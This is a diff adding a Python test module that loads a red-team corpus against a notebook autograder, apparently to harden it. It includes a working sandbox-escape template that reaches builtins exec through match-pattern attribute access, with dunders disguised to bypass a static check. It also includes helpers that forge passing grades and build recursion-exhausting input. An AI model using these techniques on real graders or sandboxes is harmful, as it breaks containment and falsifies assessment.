@@ -1,0 +1,153 @@
+"""The red-team corpus: answer cells a clever student who has read this repository would submit, and the
+whole-notebook attacks on the grader's input handling.
+
+Each file in cells/ is one attack. Its header says what it claims, which answer cells it replaces in the
+released notebook (`all`: every one) and in which batch it runs: `walls` (the sandbox's walls, graded
+together), `input` (text and files that could break a batch or the instructor's tools) or `killers`
+(processes of the grader itself, in a batch of their own so that a success does not hide the others);
+`graded: last` puts it after every other submission of its batch, so that what it breaks is all that
+is left to break.
+
+Most payloads need more than the static check lets through, so they ride the vehicle a student found
+(`escape`): a `match` class pattern reads any attribute, dunders included, so `print.__self__` is the
+builtins module and its `exec` runs the payload, which then has all of Python. The payload text is
+carried in a string with every double underscore spelled `@@` (the check refuses strings holding one),
+after _common.py, which finds the grading process and gives text a way back to the student: an
+exception's message becomes the feedback. `vehicle: plain` cells are submitted as written.
+
+What a payload achieves is written into its error, which the grader turns into feedback, so a test
+reads it from the results: `REDTEAM-LEAK` (text it should not have had), `REDTEAM-PROOF` (something it
+should not have been able to do), `REDTEAM-MEASURE kind N` (how much of a resource it got). `$PORT`,
+`$MARKER` and `$VICTIM` are filled in by the test: a loopback listener's port, the argument that marks
+processes a payload starts, and the one that marks an unrelated process of the grading user.
+"""
+from __future__ import annotations
+
+import copy
+import json
+from dataclasses import dataclass
+from pathlib import Path
+
+from grader.exercise import ANSWER_CELLS
+from solutions import reference
+
+HERE = Path(__file__).resolve().parent
+CELLS = HERE / "cells"
+ROOT = HERE.parents[1]
+RELEASED = ROOT / "assignments" / "backprop_ninja" / "backprop_ninja.ipynb"
+BATCHES = ("walls", "input", "killers")
+
+# A class pattern reads any attribute: print.__self__ is the builtins module, and its exec runs the payload.
+ESCAPE = """O = int.mro()[-1]
+match print:
+    case O(__self__=B):
+        pass
+match B:
+    case O(exec=run):
+        pass
+run({payload!r}.replace('@@', '_' * 2))
+"""
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    claim: str
+    cells: tuple[str, ...]
+    batch: str
+    source: str  # the answer cell as submitted, placeholders still in it
+    last: bool = False
+
+    def cell(self, **values: str) -> str:
+        text = self.source
+        for key, value in values.items():
+            text = text.replace(f"${key.upper()}", value)
+        return text
+
+
+def _header(text: str) -> dict[str, str]:
+    """`# key: value` lines at the top of a cell file (a line starting `#   ` continues the last)."""
+    found, last = {}, None
+    for line in text.splitlines():
+        if not line.startswith("#"):
+            break
+        if line.startswith("#   ") and last:
+            found[last] += " " + line[4:].strip()
+        elif ":" in line:
+            last, _, value = line[1:].partition(":")
+            last = last.strip()
+            found[last] = value.strip()
+    return found
+
+
+def load(path: Path) -> Attack:
+    text = path.read_text()
+    meta = _header(text)
+    cells = tuple(ANSWER_CELLS) if meta["cells"] == "all" else tuple(meta["cells"].split())
+    unknown = set(cells) - set(ANSWER_CELLS)
+    assert not unknown and meta["batch"] in BATCHES, (path, unknown, meta)
+    if meta.get("vehicle", "escape") == "plain":
+        source = text
+    else:
+        payload = (CELLS / "_common.py").read_text() + "\n" + text
+        assert "@@" not in payload, path
+        source = ESCAPE.format(payload=payload.replace("__", "@@"))
+    return Attack(path.stem, meta["attack"], cells, meta["batch"], source, meta.get("graded") == "last")
+
+
+def attacks() -> list[Attack]:
+    return [load(p) for p in sorted(CELLS.glob("*.py")) if not p.name.startswith("_")]
+
+
+def released(replace: dict[str, str] | None = None) -> dict:
+    """The released notebook (what students receive) with answer cells' sources replaced."""
+    nb = json.loads(RELEASED.read_text())
+    replace = replace or {}
+    for cell in nb["cells"]:
+        grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
+        if cell["cell_type"] == "code" and grade_id in replace:
+            cell["source"] = replace[grade_id]
+    return nb
+
+
+def correct() -> dict:
+    """The released notebook answered with the reference answers: full marks."""
+    return released(reference.cells())
+
+
+def notebook_text(nb: dict) -> str:
+    return json.dumps(nb, indent=1, ensure_ascii=False)
+
+
+def with_cell(nb: dict, source: str, *, outputs: list | None = None, markdown: bool = False) -> dict:
+    """`nb` with one more cell at the end (a student's own cell, which the grader ignores)."""
+    nb = copy.deepcopy(nb)
+    cell = {"cell_type": "markdown" if markdown else "code", "id": f"extra-{len(nb['cells'])}", "metadata": {},
+            "source": source}
+    if not markdown:
+        cell.update(execution_count=None, outputs=outputs or [])
+    nb["cells"].append(cell)
+    return nb
+
+
+def forged_grades(nb: dict) -> dict:
+    """Every self-check cell's output saying it passed, every grade cell worth 1000 points, an answer
+    cell marked as a grade cell: what a student can change in the file besides the answers."""
+    nb = copy.deepcopy(nb)
+    for cell in nb["cells"]:
+        meta = cell.get("metadata", {}).get("nbgrader")
+        if not meta or cell["cell_type"] != "code":
+            continue
+        if meta.get("grade"):
+            meta["points"] = 1000
+            cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
+                                "data": {"text/plain": "1000"}},
+                               {"output_type": "stream", "name": "stdout", "text": "score: 51/51, all tests passed\n"}]
+        elif meta.get("solution"):
+            meta.update(grade=True, points=1000)
+    return nb
+
+
+def deep_nesting(depth: int = 5_000) -> str:
+    """An answer cell nested past the parser's and the checker's recursion limits."""
+    return "dprobs = " + "-" * depth + "probs\n"
